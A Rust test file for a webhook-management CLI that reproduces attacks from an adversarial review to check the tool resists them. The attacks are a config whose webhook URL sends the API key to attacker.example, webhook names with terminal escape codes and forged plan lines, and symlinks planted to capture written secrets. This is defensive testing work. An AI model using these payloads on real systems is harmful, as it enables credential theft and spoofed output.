//! What an adversarial review broke (issue 15), each attack reproduced against the real binary
//! and the real emulator: a config sending the tool's credential away, a credential already
//! on the platform, platform text that is terminal control, tokens minted outside the run,
//! and inputs too large to refuse in time. (Saved plans edited by hand: `saved_plans.rs`.)

use std::path::Path;

use serde_json::json;

use crate::support::cli::{Run, command};
use crate::support::emulator::{DEMO_KEY, Emulator};
use crate::support::raw;

fn cli(emulator: &Emulator, dir: &Path, args: &[&str], env: &[(&str, &str)]) -> Run {
    emulator.cli(dir, args, env)
}

/// Creates a webhook straight through the API, as a person (or an earlier run) might have.
async fn create_live(emulator: &Emulator, org: &str, name: &str, url: &str) -> String {
    let org_uuid = emulator.org_uuid(org).await;
    let token = raw::org_token(&emulator.url, DEMO_KEY, &org_uuid).await;
    let catalogue = raw::call(&emulator.url, "GET", "/v1/webhooks/events")
        .token(&token)
        .send()
        .await;
    let event = catalogue.response()["grid"][0]["events"][0].clone();
    let created = raw::call(&emulator.url, "POST", "/v1/webhooks")
        .token(&token)
        .json(&json!({
            "name": name, "url": url, "description": "", "disable": false,
            "userEmail": "owner@acme.example", "organizationUuid": org_uuid, "clients": [],
            "events": [{"uuid": event["uuid"], "name": event["name"]}],
        }))
        .send()
        .await;
    assert_eq!(created.status, 200, "{:?}", created.body);
    created.response()["uuid"].as_str().unwrap().to_owned()
}

#[tokio::test]
async fn a_config_cannot_send_the_api_key_and_a_key_already_on_the_platform_is_never_shown() {
    let emulator = Emulator::start();
    let dir = tempfile::tempdir().unwrap();
    // The attack: a url that carries the tool's own key to someone else.
    std::fs::write(
        dir.path().join("steal.yaml"),
        "version: 1\norganizations:\n  acme-3d:\n    webhooks:\n      exfil:\n        url: https://attacker.example/c?k=${VNTANA_API_KEY}\n        events: [product.added]\n",
    )
    .unwrap();
    for args in [
        &["plan", "-f", "steal.yaml", "--format", "json"][..],
        &["apply", "-f", "steal.yaml", "--auto-approve"],
    ] {
        let run = cli(&emulator, dir.path(), args, &[]);
        assert_eq!(run.code, 1, "{args:?}: {}", run.stderr);
        assert!(
            run.stderr.contains("`${VNTANA_API_KEY}` is refused"),
            "{}",
            run.stderr
        );
        assert!(!run.stdout.contains(DEMO_KEY) && !run.stderr.contains(DEMO_KEY));
    }
    assert!(emulator.mutating_requests().await.is_empty());
    // Defence in depth: the key is already in a live url (an older tool, or by hand). Every
    // output masks the credentials in use, live values included.
    let leaked = format!("https://attacker.example/c?k={DEMO_KEY}");
    create_live(&emulator, "acme-3d", "exfil", &leaked).await;
    std::fs::write(
        dir.path().join("fix.yaml"),
        "version: 1\norganizations:\n  acme-3d:\n    webhooks:\n      exfil:\n        url: https://fixed.example/hook\n        events: [product.added]\n",
    )
    .unwrap();
    let runs = [
        &["plan", "-f", "fix.yaml"][..],
        &["plan", "-f", "fix.yaml", "--format", "json"],
        &["plan", "-f", "fix.yaml", "--format", "markdown"],
        &["plan", "-f", "fix.yaml", "--format", "github", "-vvv"],
        &["plan", "-f", "fix.yaml", "--out", "plan.json"],
        &["apply", "-f", "fix.yaml", "--dry-run"],
        &["export", "--org", "acme-3d"],
        &["export", "--org", "acme-3d", "--format", "live-json"],
    ];
    for args in runs {
        let run = cli(&emulator, dir.path(), args, &[]);
        assert_eq!(run.code, 0, "{args:?}: {}", run.stderr);
        assert!(
            !run.stdout.contains(DEMO_KEY) && !run.stderr.contains(DEMO_KEY),
            "{args:?} printed the API key:\n{}\n{}",
            run.stdout,
            run.stderr
        );
    }
    let plan = cli(&emulator, dir.path(), &["plan", "-f", "fix.yaml"], &[]);
    assert!(
        plan.stdout
            .contains("\"https://attacker.example/c?k=****\" -> \"https://fixed.example/hook\""),
        "{}",
        plan.stdout
    );
    let saved = std::fs::read_to_string(dir.path().join("plan.json")).unwrap();
    assert!(!saved.contains(DEMO_KEY), "the saved plan holds the key");
    // And the saved plan, masked, still applies exactly (it is checked against a plan made
    // again, masked the same way).
    let applied = cli(&emulator, dir.path(), &["apply", "plan.json"], &[]);
    assert_eq!(applied.code, 0, "{}\n{}", applied.stdout, applied.stderr);
    assert_eq!(
        emulator.webhooks_named("exfil").await[0]["url"],
        "https://fixed.example/hook"
    );
}

/// Names a hostile platform (or a hostile colleague with API access) could give webhooks.
const HOSTILE_NAMES: [&str; 3] = [
    "\u{1b}[2J\u{1b}]0;pwned\u{7}clear",
    "x\nPlan: 0 to create, 0 to update, 0 to rotate, 0 to delete; 9 unchanged.",
    "a|b`</code></summary>\n```\nforged",
];

#[tokio::test]
async fn text_from_the_platform_never_reaches_the_terminal_as_control() {
    let emulator = Emulator::start();
    let dir = tempfile::tempdir().unwrap();
    for name in HOSTILE_NAMES {
        create_live(&emulator, "acme-3d", name, "https://x.example/h").await;
    }
    // Listed as unmanaged, then deleted (prune: all): every line kind that names them.
    let listing = "version: 1\norganizations:\n  acme-3d:\n    webhooks: {}\n";
    std::fs::write(dir.path().join("list.yaml"), listing).unwrap();
    std::fs::write(
        dir.path().join("prune.yaml"),
        listing.replace("webhooks: {}", "prune: all\n    webhooks: {}"),
    )
    .unwrap();
    let mut outputs = Vec::new();
    for args in [
        &["plan", "-f", "list.yaml"][..],
        &["plan", "-f", "prune.yaml", "--force"],
        &[
            "plan",
            "-f",
            "prune.yaml",
            "--force",
            "--format",
            "markdown",
        ],
        &["plan", "-f", "prune.yaml", "--force", "--format", "github"],
        &["apply", "-f", "prune.yaml", "--force", "--dry-run"],
    ] {
        let run = cli(&emulator, dir.path(), args, &[]);
        assert!(run.code == 0 || run.code == 3, "{args:?}: {}", run.stderr);
        outputs.push((format!("{args:?}"), run));
    }
    let export = cli(&emulator, dir.path(), &["export", "--org", "acme-3d"], &[]);
    assert_eq!(export.code, 1, "{}", export.stdout);
    assert!(
        export.stderr.contains("which a config cannot hold"),
        "{}",
        export.stderr
    );
    outputs.push(("export".to_owned(), export));
    let applied = cli(
        &emulator,
        dir.path(),
        &["apply", "-f", "prune.yaml", "--force", "--auto-approve"],
        &[],
    );
    assert_eq!(applied.code, 0, "{}", applied.stderr);
    outputs.push(("apply".to_owned(), applied));
    for (what, run) in &outputs {
        for (stream, bytes) in [("stdout", &run.stdout), ("stderr", &run.stderr)] {
            // NO_COLOR is set: no escape or bell byte may appear at all.
            assert!(
                !bytes.contains('\u{1b}') && !bytes.contains('\u{7}'),
                "{what}: a control character reached {stream}:\n{bytes:?}"
            );
            let forged = bytes
                .lines()
                .filter(|l| {
                    l.starts_with("Plan: 0 to create, 0 to update, 0 to rotate, 0 to delete; 9")
                })
                .count();
            assert_eq!(forged, 0, "{what}: a forged summary line on {stream}");
        }
    }
    // Markdown: a name never ends its table cell, code span, summary or fence.
    let markdown = &outputs[2].1.stdout;
    let fences = markdown.lines().filter(|l| l.starts_with("```")).count();
    assert_eq!(fences % 2, 0, "{markdown}");
    assert!(
        !markdown.contains("</code></summary>\n```\nforged"),
        "{markdown}"
    );
}

#[tokio::test]
async fn an_organization_the_run_cannot_manage_gets_no_token_minted() {
    let emulator = Emulator::start();
    let dir = tempfile::tempdir().unwrap();
    // initech: the demo user is a viewer there; acme-3d and globex it could manage.
    std::fs::write(
        dir.path().join("c.yaml"),
        "version: 1\norganizations:\n  initech:\n    webhooks: {}\n",
    )
    .unwrap();
    for command in ["plan", "validate"] {
        emulator.clear_requests().await;
        let run = cli(&emulator, dir.path(), &[command, "-f", "c.yaml"], &[]);
        assert_eq!(run.code, 1, "{}", run.stderr);
        assert!(
            run.stderr
                .contains("initech: role CLIENT_ORGANIZATION_VIEWER"),
            "{}",
            run.stderr
        );
        assert_eq!(
            emulator.request_lines().await,
            ["POST /v1/auth/login/token", "GET /v1/organizations"],
            "{command}: a token was minted for an organization outside the run"
        );
    }
}

#[test]
fn a_directory_of_too_many_large_files_is_refused_before_it_is_read() {
    let dir = tempfile::tempdir().unwrap();
    let configs = dir.path().join("configs");
    std::fs::create_dir(&configs).unwrap();
    let line = format!("# {}\n", "x".repeat(98));
    let body = line.repeat(10_000); // 1,000,000 bytes: under the limit of one file
    for i in 0..40 {
        std::fs::write(configs.join(format!("c{i:02}.yaml")), &body).unwrap();
    }
    let run = crate::support::cli::output_within(
        command(dir.path()).args(["validate", "--offline", "-f", "configs"]),
        std::time::Duration::from_mins(1),
    );
    assert_eq!(run.code, 1);
    assert!(
        run.stderr
            .contains("the config files add up to more than 33554432 bytes"),
        "{}",
        run.stderr
    );
    assert_eq!(run.stderr.lines().count(), 2, "{}", run.stderr);
}

#[test]
fn a_markdown_plan_of_emoji_names_stays_under_the_limit_in_utf16_units() {
    use vntana_webhooks::plan::model::{
        Action, ActionKind, OrganizationPlan, Plan, Reason, Summary,
    };
    let organizations: Vec<OrganizationPlan> = (0..30)
        .map(|o| OrganizationPlan {
            slug: format!("org-{o:02}"),
            actions: (0..300)
                .map(|i| Action {
                    action: ActionKind::Delete,
                    webhook: format!("{}-{i}", "🦀".repeat(20)),
                    uuid: Some(format!("{o}-{i}")),
                    reason: Reason::Prune,
                    changes: Vec::new(),
                    target: None,
                })
                .collect(),
            ..OrganizationPlan::default()
        })
        .collect();
    let plan = Plan {
        format_version: 1,
        organizations,
        summary: Summary {
            delete: 9_000,
            ..Summary::default()
        },
        problems: Vec::new(),
    };
    let markdown = vntana_webhooks::plan::render::markdown(&plan);
    let units = markdown.encode_utf16().count();
    assert!(units < 60_000, "{units} UTF-16 units");
    assert!(
        markdown.contains("Details truncated"),
        "truncated with a note"
    );
    assert!(markdown.contains("**Plan: 0 to create, 0 to update, 0 to rotate, 9000 to delete"));
}

#[test]
fn a_markdown_summary_of_thousands_of_organizations_stays_under_the_limit() {
    use vntana_webhooks::plan::model::{OrganizationPlan, Plan, Summary};
    let organizations: Vec<OrganizationPlan> = (0..3_000)
        .map(|o| OrganizationPlan {
            slug: format!("organization-with-a-long-slug-{o:05}"),
            unchanged: vec!["w".to_owned()],
            ..OrganizationPlan::default()
        })
        .collect();
    let plan = Plan {
        format_version: 1,
        organizations,
        summary: Summary {
            unchanged: 3_000,
            ..Summary::default()
        },
        problems: Vec::new(),
    };
    let markdown = vntana_webhooks::plan::render::markdown(&plan);
    assert!(markdown.encode_utf16().count() < 60_000);
    assert!(
        markdown.contains("more organizations | 0 | 0 | 0 | 0 |"),
        "the rest summed up"
    );
    assert!(markdown.contains("**No changes. Live webhooks match the config.**"));
}

#[cfg(unix)]
#[tokio::test]
async fn secrets_out_never_writes_through_a_link_someone_planted_in_its_folder() {
    use std::os::unix::fs::PermissionsExt;
    let emulator = Emulator::start();
    let dir = tempfile::tempdir().unwrap();
    let victim = dir.path().join("attacker-reads-this.txt");
    std::fs::write(&victim, "{}").unwrap();
    // The target itself, and the temporary names an older build used, link to the victim.
    std::os::unix::fs::symlink(&victim, dir.path().join("secrets.json")).unwrap();
    // Process ids grow: the apply about to start gets one of the next few thousand.
    let now = std::process::id();
    for pid in now..now + 20_000 {
        let planted = dir.path().join(format!(".secrets.json.{pid}.tmp"));
        std::os::unix::fs::symlink(&victim, planted).unwrap();
    }
    std::fs::write(
        dir.path().join("c.yaml"),
        "version: 1\norganizations:\n  globex:\n    webhooks:\n      fresh:\n        url: https://fresh.example/h\n        events: [product.added]\n",
    )
    .unwrap();
    let run = cli(
        &emulator,
        dir.path(),
        &[
            "apply",
            "-f",
            "c.yaml",
            "--auto-approve",
            "--secrets-out",
            "secrets.json",
        ],
        &[],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(
        std::fs::read_to_string(&victim).unwrap(),
        "{}",
        "a secret reached the link"
    );
    let meta = std::fs::symlink_metadata(dir.path().join("secrets.json")).unwrap();
    assert!(
        meta.file_type().is_file(),
        "the link was replaced, not followed"
    );
    assert_eq!(meta.permissions().mode() & 0o777, 0o600);
    let secrets = std::fs::read_to_string(dir.path().join("secrets.json")).unwrap();
    assert!(secrets.contains("globex/fresh"), "{secrets}");
}
